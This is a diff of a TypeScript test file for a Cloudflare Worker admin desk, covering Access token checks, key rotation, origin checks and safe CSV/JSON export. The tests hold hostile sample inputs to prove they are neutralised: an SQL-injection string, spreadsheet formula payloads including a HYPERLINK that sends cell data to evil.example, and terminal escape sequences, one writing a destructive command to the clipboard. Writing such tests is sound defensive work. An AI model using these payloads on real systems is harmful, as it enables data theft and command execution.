@@ -6,7 +6,7 @@ import type { Env } from '../../worker/env.ts';
 import { faultyDatabase } from './support/faulty.ts';
 import { createHarness, harness, siteUrl } from './support/harness.ts';
 import { simulateNetwork } from './support/network.ts';
-import { contact, sendApplication, sendInquiry } from './support/posts.ts';
+import { contact, jsonPost, sendApplication, sendInquiry } from './support/posts.ts';
 import { insertRows, readRows, updateRows } from './support/stores.ts';
 import { advanceTime } from './support/time.ts';
 
@@ -28,36 +28,24 @@ async function createSigner() {
 }
 
 const [signer, otherSigner] = await Promise.all([createSigner(), createSigner()]);
-let accessTeamName: string;
 let issuerUrl: string;
-let accessSettings: Partial<Env>;
-let certificateFetchCount = 0;
+let accessSettings = { ACCESS_TEAM: 'a-team', ACCESS_AUD: accessAudience };
+type Responder = () => Response | Promise<Response>;
+const respondWithKey: Responder = () => Response.json({ keys: [signer.jwk] });
+const respondToKeyFetch = vi.fn(respondWithKey);
 
 /** Signs valid claims; `claimOverrides` replace some of them, or leave them out if undefined. */
 function signToken(claimOverrides: Record<string, unknown> = {}, { kid, privateKey } = signer) {
-  const claims = { ...createValidClaims(), nbf: readNowInSeconds(), ...claimOverrides };
+  const claims = { ...createValidClaims(), ...claimOverrides };
   return new SignJWT(claims).setProtectedHeader({ alg: 'RS256', kid }).sign(privateKey);
-}
-
-function simulateCertificates(createResponse: () => Response | Promise<Response>): void {
-  const respond = () => {
-    certificateFetchCount += 1;
-    return createResponse();
-  };
-  simulateNetwork({ [`${issuerUrl}/cdn-cgi/access/certs`]: respond });
-}
-
-function createCertificatesResponse({ jwk }: typeof signer): Response {
-  return Response.json({ keys: [jwk] });
 }
 
 beforeEach(() => {
   // The Worker caches a team's keys.
-  accessTeamName = crypto.randomUUID();
-  issuerUrl = `https://${accessTeamName}.cloudflareaccess.com`;
-  accessSettings = { ACCESS_TEAM: accessTeamName, ACCESS_AUD: accessAudience };
-  certificateFetchCount = 0;
-  simulateCertificates(() => createCertificatesResponse(signer));
+  accessSettings = { ...accessSettings, ACCESS_TEAM: crypto.randomUUID() };
+  issuerUrl = `https://${accessSettings.ACCESS_TEAM}.cloudflareaccess.com`;
+  respondToKeyFetch.mockReset();
+  simulateNetwork({ [`${issuerUrl}/cdn-cgi/access/certs`]: respondToKeyFetch });
 });
 
 interface DeskRequest {
@@ -66,17 +54,13 @@ interface DeskRequest {
   settings?: Partial<Env>;
   origin?: string;
   path?: string;
-  body?: unknown;
 }
 
-function requestDesk({ token, headers, body, ...settingsAndUrlParts }: DeskRequest) {
+function requestDesk({ token, headers, ...settingsAndUrlParts }: DeskRequest) {
   const { settings = accessSettings, origin = siteUrl, path = overviewPath } = settingsAndUrlParts;
   const tokenHeaders = token === undefined ? {} : { 'Cf-Access-Jwt-Assertion': token };
-  const bodyText = typeof body === 'string' ? body : JSON.stringify(body);
-  const method = body === undefined ? 'GET' : 'POST';
-  const requestInit = { method, headers: { ...tokenHeaders, ...headers }, body: bodyText };
-  const request = new Request(`${origin}${path}`, { redirect: 'manual', ...requestInit });
-  return createHarness(settings).fetch(request);
+  const requestInit = { redirect: 'manual', headers: { ...tokenHeaders, ...headers } } as const;
+  return createHarness(settings).fetch(new Request(`${origin}${path}`, requestInit));
 }
 
 async function requestSignedIn(requestOptions: DeskRequest = {}): Promise<Response> {
@@ -87,15 +71,16 @@ async function readStatusForToken(tokenPromise: Promise<string>): Promise<number
   return (await requestDesk({ token: await tokenPromise })).status;
 }
 
-const jsonHeaders = { 'Content-Type': 'application/json' };
-const ownSiteHeaders = { Origin: siteUrl, ...jsonHeaders };
+const ownOrigin = { Origin: siteUrl };
 
-/** Posts as the desk does, unless other headers are given: as JSON, with the Origin of the site. */
-function postChange(body: unknown, headers: Record<string, string> = ownSiteHeaders) {
-  return requestSignedIn({ path: '/api/v1/desk/changes', headers, body });
+/** Posts JSON with the Origin of the site, as the desk does, unless other headers are given. */
+async function postChange(body: unknown, headers: Record<string, string> = ownOrigin) {
+  const signedInHeaders = { 'Cf-Access-Jwt-Assertion': await signToken(), ...headers };
+  const post = jsonPost(body, signedInHeaders, '/api/v1/desk/changes');
+  return createHarness(accessSettings).fetch(post);
 }
 
-function requestApi(path: string, settings = accessSettings): Promise<Response> {
+function requestApi(path: string, settings: Partial<Env> = accessSettings): Promise<Response> {
   return requestSignedIn({ path: `/api/v1/desk${path}`, settings });
 }
 
@@ -109,24 +94,22 @@ function storeMessage(fields: Record<string, string> = {}): Promise<string> {
   return sendInquiry(createHarness(), { ...contact, ...fields });
 }
 
-test('opens the desk for a user of Cloudflare Access, and fetches the certificates once', async () => {
-  for (const _request of [1, 2, 3]) {
-    expect(await readApiJson('/overview')).toMatchObject({ actor: ownerEmail });
-  }
-  expect(certificateFetchCount).toBe(1);
-});
-
-test('verifies the token of a page request once', async () => {
+test('opens the desk for a user of Cloudflare Access, verifies the token of a page once, and fetches the certificates once', async () => {
   const verifySpy = vi.spyOn(crypto.subtle, 'verify');
   expect((await requestSignedIn({ path: '/desk' })).status).toBe(200);
   expect(verifySpy).toHaveBeenCalledOnce();
+  for (const _request of [1, 2, 3]) {
+    expect(await readApiJson('/overview')).toMatchObject({ actor: ownerEmail });
+  }
+  expect(respondToKeyFetch).toHaveBeenCalledOnce();
 });
 
 const readNowInSeconds = () => Math.floor(Date.now() / 1_000);
 
 function createValidClaims() {
-  const [iat, exp] = [readNowInSeconds(), readNowInSeconds() + 3_600];
-  return { iss: issuerUrl, aud: [accessAudience], email: ownerEmail, iat, exp };
+  const iat = readNowInSeconds();
+  const validityClaims = { iat, nbf: iat, exp: iat + 3_600 };
+  return { iss: issuerUrl, aud: [accessAudience], email: ownerEmail, ...validityClaims };
 }
 
 function signTokenWithSecret(secret: string): Promise<string> {
@@ -163,7 +146,7 @@ test.each<[caseName: string, createRequest: () => Promise<DeskRequest>, status?:
   ['in a cookie only', async () => ({ headers: { Cookie: `CF_Authorization=${await signToken()}` } })],
   ['in the Authorization header only', async () => ({ headers: { Authorization: `Bearer ${await signToken()}` } })],
   ['where no team is set', async () => ({ token: await signToken(), settings: { ACCESS_AUD: accessAudience } }), 404],
-  ['where no audience is set', async () => ({ token: await signToken(), settings: { ACCESS_TEAM: accessTeamName } }), 404],
+  ['where no audience is set', async () => ({ token: await signToken(), settings: { ACCESS_TEAM: accessSettings.ACCESS_TEAM } }), 404],
   ['whose team setting contains another host', async () => ({ token: await signToken(otherIssuerClaim), settings: otherHostSettings }), 404],
 ])('refuses a token %s', async (_case, createRequest, expectedStatus = 401) => {
   const response = await requestDesk(await createRequest());
@@ -173,45 +156,43 @@ test.each<[caseName: string, createRequest: () => Promise<DeskRequest>, status?:
   expect(await response.json()).toEqual({ message: expect.any(String) });
 });
 
-test('refuses a token signed by a withdrawn key, and accepts one signed by its successor', async () => {
-  expect(await readStatusForToken(signToken())).toBe(200);
-  simulateCertificates(() => createCertificatesResponse(otherSigner));
-  // The keys are refetched at most twice a minute.
-  advanceTime(31_000);
-  expect(await readStatusForToken(signToken({}, otherSigner))).toBe(200);
-  expect(await readStatusForToken(signToken())).toBe(401);
-});
-
-test.each<[caseName: string, createResponse: Parameters<typeof simulateCertificates>[0]]>([
+test.each<[caseName: string, respond: Responder]>([
   ['cannot be reached', () => Promise.reject(new TypeError('Network connection lost.'))],
   ['cannot be read (status 500)', () => Response.json({ keys: [signer.jwk] }, { status: 500 })],
   ['are malformed', () => Response.json({ keys: 'none' })],
   ['are HTML', () => new Response('<h1>Hello</h1>')],
-])('refuses tokens while certificates %s, with a fetch per 30 s', async (_case, createResponse) => {
-  simulateCertificates(createResponse);
+])('refuses tokens while certificates %s, with a fetch per 30 s', async (_case, respond) => {
+  respondToKeyFetch.mockImplementation(respond);
   for (const path of [overviewPath, '/desk']) {
     const { status, headers } = await requestSignedIn({ path });
     expect([status, headers.get('Retry-After')]).toEqual([503, '60']);
   }
   advanceTime(29_000);
-  expect([await readStatusForToken(signToken()), certificateFetchCount]).toEqual([503, 1]);
+  expect(await readStatusForToken(signToken())).toBe(503);
+  expect(respondToKeyFetch).toHaveBeenCalledTimes(1);
   advanceTime(2_000);
   const parallelStatuses = await Promise.all([1, 2, 3].map(() => readStatusForToken(signToken())));
-  expect([parallelStatuses, certificateFetchCount]).toEqual([[503, 503, 503], 2]);
+  expect(parallelStatuses).toEqual([503, 503, 503]);
+  expect(respondToKeyFetch).toHaveBeenCalledTimes(2);
   advanceTime(31_000);
-  simulateCertificates(() => createCertificatesResponse(signer));
+  respondToKeyFetch.mockImplementation(respondWithKey);
   expect(await readStatusForToken(signToken())).toBe(200);
 });
 
-test('accepts known keys after an unknown key while certificates cannot be fetched', async () => {
+test('refuses a withdrawn key and accepts its successor, also after certificates could not be fetched', async () => {
   expect(await readStatusForToken(signToken())).toBe(200);
-  simulateCertificates(() => new Response('busy', { status: 500 }));
+  respondToKeyFetch.mockImplementation(() => Response.json({ keys: [otherSigner.jwk] }));
+  // The keys are refetched at most twice a minute.
   advanceTime(31_000);
-  expect(await readStatusForToken(signToken({}, otherSigner))).toBe(503);
-  expect(await readStatusForToken(signToken())).toBe(200);
+  expect(await readStatusForToken(signToken({}, otherSigner))).toBe(200);
+  expect(await readStatusForToken(signToken())).toBe(401);
+  respondToKeyFetch.mockImplementation(() => new Response('busy', { status: 500 }));
+  advanceTime(31_000);
+  expect(await readStatusForToken(signToken())).toBe(503);
+  expect(await readStatusForToken(signToken({}, otherSigner))).toBe(200);
 });
 
-const teamSettings = { ACCESS_TEAM: 'a-team', ACCESS_AUD: accessAudience, ...localSettings };
+const teamSettings = { ...accessSettings, ...localSettings };
 const emptyKeyHeaders = { ...localHeaders, Cookie: 'desk-key=' };
 
 test('opens the desk on this machine with the local key, as an HttpOnly and SameSite=Strict cookie', async () => {
@@ -248,34 +229,26 @@ test.each<[caseName: string, status: number, attackRequest: DeskRequest]>([
   expect([response.status, response.headers.get('Set-Cookie')]).toEqual([expectedStatus, null]);
 });
 
-test.each([
-  ['/api/v1/desk/overview', '/api/v1/nothing'],
-  ['/desk', '/nothing'],
-  ['/desk/app.js', '/nothing'],
-])('answers %s like %s where no desk is set up', async (path, unknownPath) => {
+const deskPaths = [overviewPath, '/desk', '/desk/app.js'];
+test.each(deskPaths)('answers %s like an unknown path where no desk is set up', async (path) => {
   const deskResponse = await requestDesk({ settings: {}, path });
   expect(deskResponse.status).toBe(404);
-  expect(await deskResponse.text()).toBe(await (await harness.get(unknownPath)).text());
+  const unknownPathResponse = await harness.get(path.replace(/desk.*/, 'nothing'));
+  expect(await deskResponse.text()).toBe(await unknownPathResponse.text());
 });
 
 const unknownReference = 'TT-AAAA-AAAA';
 
-test.each<[caseName: string, status: number, headers: Record<string, string>]>([
-  ['without an Origin', 403, jsonHeaders],
-  ['from another site', 403, { ...jsonHeaders, Origin: 'https://evil.example' }],
-  ['from a sandbox', 403, { ...jsonHeaders, Origin: 'null', 'Sec-Fetch-Site': 'cross-site' }],
-  ['from a subdomain', 403, { ...jsonHeaders, Origin: 'https://evil.tern-and-tide.test' }],
-  ['as a form', 415, { ...ownSiteHeaders, 'Content-Type': 'application/x-www-form-urlencoded' }],
-  ['as plain text, avoiding a preflight', 415, { ...ownSiteHeaders, 'Content-Type': 'text/plain' }],
-  ['as JSONP', 415, { ...ownSiteHeaders, 'Content-Type': 'application/jsonp' }],
-])('refuses a change %s', async (_case, expectedStatus, headers) => {
-  const references = [await storeMessage()];
-  expect((await postChange({ do: 'remove', references }, headers)).status).toBe(expectedStatus);
-  expect(await readRows()).toHaveLength(1);
-});
-
+/** A row with headers removes the stored message. */
 // biome-ignore format: a row a line
-test.each<[caseName: string, status: number, body: unknown]>([
+test.each<[caseName: string, status: number, body: unknown, headers?: Record<string, string>]>([
+  ['without an Origin', 403, null, {}],
+  ['from another site', 403, null, { Origin: 'https://evil.example' }],
+  ['from a sandbox', 403, null, { Origin: 'null', 'Sec-Fetch-Site': 'cross-site' }],
+  ['from a subdomain', 403, null, { Origin: 'https://evil.tern-and-tide.test' }],
+  ['as a form', 415, null, { ...ownOrigin, 'Content-Type': 'application/x-www-form-urlencoded' }],
+  ['as plain text, avoiding a preflight', 415, null, { ...ownOrigin, 'Content-Type': 'text/plain' }],
+  ['as JSONP', 415, null, { ...ownOrigin, 'Content-Type': 'application/jsonp' }],
   ['of unknown kind', 422, { do: 'drop' }],
   ['named constructor', 422, { do: 'constructor', references: [] }],
   ['of an invalid reference', 422, { do: 'remove', references: ["' OR 1=1 --"] }],
@@ -292,10 +265,10 @@ test.each<[caseName: string, status: number, body: unknown]>([
   ['with too long a note', 422, { do: 'note', reference: unknownReference, text: 'x'.repeat(5_001) }],
   ['with too large a body', 413, `{"do":"note","text":"${'x'.repeat(110_000)}"}`],
   ['that is not JSON', 400, '{'],
-])('changes nothing by a change %s', async (_case, expectedStatus, body) => {
-  await storeMessage();
+])('changes nothing by a change %s', async (_case, expectedStatus, body, headers) => {
+  const removal = { do: 'remove', references: [await storeMessage()] };
   const rowsBefore = await readRows();
-  expect((await postChange(body)).status).toBe(expectedStatus);
+  expect((await postChange(headers ? removal : body, headers)).status).toBe(expectedStatus);
   expect(await readRows()).toEqual(rowsBefore);
 });
 
@@ -304,11 +277,10 @@ test('removes a note only with its own message, and no other event', async () =>
   const otherReference = await storeMessage({ message: 'Another' });
   await postChange({ do: 'note', reference: notedReference, text: 'Hi' });
   await postChange({ do: 'answer', references: [notedReference] });
-  const historyEvents = await readHistory(bindings, notedReference);
-  const eventIdsByKind = new Map(historyEvents.map(({ what: eventKind, id }) => [eventKind, id]));
-  const changeNote = (changeName: string, reference: string, what = 'note') =>
-    postChange({ do: changeName, reference, id: eventIdsByKind.get(what) });
-  expect((await changeNote('remove-note', notedReference, 'answered')).status).toBe(404);
+  const [note, answer] = await readHistory(bindings, notedReference);
+  const changeNote = (changeName: string, reference: string, event = note) =>
+    postChange({ do: changeName, reference, id: event?.id });
+  expect((await changeNote('remove-note', notedReference, answer)).status).toBe(404);
   for (const changeName of ['remove-note', 'restore-note', 'remove-note']) {
     expect((await changeNote(changeName, otherReference)).status).toBe(404);
     const response = await changeNote(changeName, notedReference);
@@ -346,12 +318,10 @@ test.each(badFilters)('refuses the filter %s', async (filterQuery) => {
 });
 
 test('shows a message with the latest twenty other messages of the same person', async () => {
-  const newestFirstReferences: string[] = [];
-  for (let messageIndex = 0; messageIndex < 23; messageIndex += 1) {
-    newestFirstReferences.unshift(await storeMessage({ message: String(messageIndex) }));
-  }
-  await storeMessage({ email: 'another@example.com' });
-  for (const openedReference of [newestFirstReferences[0], newestFirstReferences[22]]) {
+  await insertRows(23, {});
+  await storeMessage();
+  const newestFirstReferences = Array.from({ length: 23 }, (_, index) => String(23 - index));
+  for (const openedReference of ['23', '1']) {
     const otherReferences = newestFirstReferences.filter((other) => other !== openedReference);
     const earlier = otherReferences.slice(0, 20).map((reference) => ({ reference }));
     expect(await readApiJson(`/messages/${openedReference}`)).toMatchObject({ earlier });
@@ -362,10 +332,9 @@ test('lists fifty messages per page with the position of the next page', async (
   await insertRows(101, {});
   let listPath = '/messages';
   for (const expectedCount of [50, 50, 1]) {
-    type MessagesPage = { messages: object[]; next: number | null };
-    const { messages, next: nextPageCursor } = await readApiJson<MessagesPage>(listPath);
-    expect(messages).toHaveLength(expectedCount);
-    listPath = `/messages?before=${nextPageCursor}`;
+    const page: { messages: object[]; next: number | null } = await readApiJson(listPath);
+    expect(page.messages).toHaveLength(expectedCount);
+    listPath = `/messages?before=${page.next}`;
   }
   expect(listPath).toBe('/messages?before=null');
 });
@@ -425,43 +394,31 @@ test('exports filtered messages as a download named by the day', async () => {
   expect(await response.json()).toMatchObject([{ fields: { name: 'Asha' } }]);
 });
 
-/** Stores a held message with the same text in every column, bypassing the Worker's cleaning. */
-async function storeHostileMessage(hostileText: string): Promise<void> {
-  await storeMessage({ website: 'spam' });
-  await updateRows(
-    `email = ?1, page = ?1, service = ?1, held_reason = ?1, last_error = ?1, file_name = ?1,
-     fields = json_object('name', ?1, 'email', ?1, 'phoneNumber', ?1, 'message', ?1)`,
-    hostileText,
-  );
-}
-
-// biome-ignore format: values side by side
-const formulaTexts = [
+// biome-ignore format: formulas, then control characters
+const hostileTexts = [
   '=cmd()', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r\n=1+1', '＝1', '|calc', '%x', '\u200b=1',
   '=HYPERLINK("https://evil.example?x="&A1,"open")', 'x","=1+1', 'x"\r\n"=1+1', 'a, b',
-];
-
-test.each(formulaTexts)('exports %j as the text of one spreadsheet cell', async (formulaText) => {
-  await storeHostileMessage(formulaText);
-  const csvText = await (await requestApi('/export/csv')).text();
-  const csvCellMatches = [...csvText.matchAll(/"((?:[^"]|"")*)"/g)];
-  const cellTexts = csvCellMatches.map(([, cell = '']) => cell.replaceAll('""', '"'));
-  expect(cellTexts).toHaveLength(2 * (cellTexts.indexOf('coverLetter') + 1));
-  expect(cellTexts.filter((cell) => cell.replace(/^'/, '') === formulaText)).toHaveLength(9);
-  expect(cellTexts.filter((cell) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝|%]/u.test(cell))).toEqual([]);
-});
-
-// biome-ignore format: values side by side
-const controlSequenceTexts = [
   '\u001b[2J\u001b[H', '\u001b]0;owned\u0007', '\u001b]52;c;cm0gLXJmIH4=\u0007',
   '\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\',
   '\u009b31mred\u009d0;x\u009c', 'safe\rCC-AAAA-AAAA  delivered', 'unpaid\b\b\b\b\b\bpaid',
   'invoice\u202Efdp.exe\u2066x\u2069', 'Asha\u2028Status: delivered\u0085x',
 ];
 
-const hostileTexts = [...controlSequenceTexts, ...formulaTexts];
-test.each(hostileTexts)('exports %j as JSON without control characters', async (hostileText) => {
-  await storeHostileMessage(hostileText);
+test.each(hostileTexts)('exports %j as harmless text in CSV and JSON', async (hostileText) => {
+  await storeMessage({ website: 'spam' });
+  // This bypasses the Worker's cleaning of input.
+  await updateRows(
+    `email = ?1, page = ?1, service = ?1, held_reason = ?1, last_error = ?1, file_name = ?1,
+     fields = json_object('name', ?1, 'email', ?1, 'phoneNumber', ?1, 'message', ?1)`,
+    hostileText,
+  );
+  const csvText = await (await requestApi('/export/csv')).text();
+  const csvCellMatches = [...csvText.matchAll(/"((?:[^"]|"")*)"/g)];
+  const cellTexts = csvCellMatches.map(([, cell = '']) => cell.replaceAll('""', '"'));
+  expect(cellTexts).toHaveLength(2 * (cellTexts.indexOf('coverLetter') + 1));
+  expect(cellTexts.filter((cell) => cell.replace(/^'/, '') === hostileText)).toHaveLength(9);
+  expect(cellTexts.filter((cell) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝|%]/u.test(cell))).toEqual([]);
+
   const exportedJson = await (await requestApi('/export/json')).text();
   const expectedMessage = { fields: { name: hostileText }, file_name: hostileText };
   expect(JSON.parse(exportedJson)).toMatchObject([expectedMessage]);
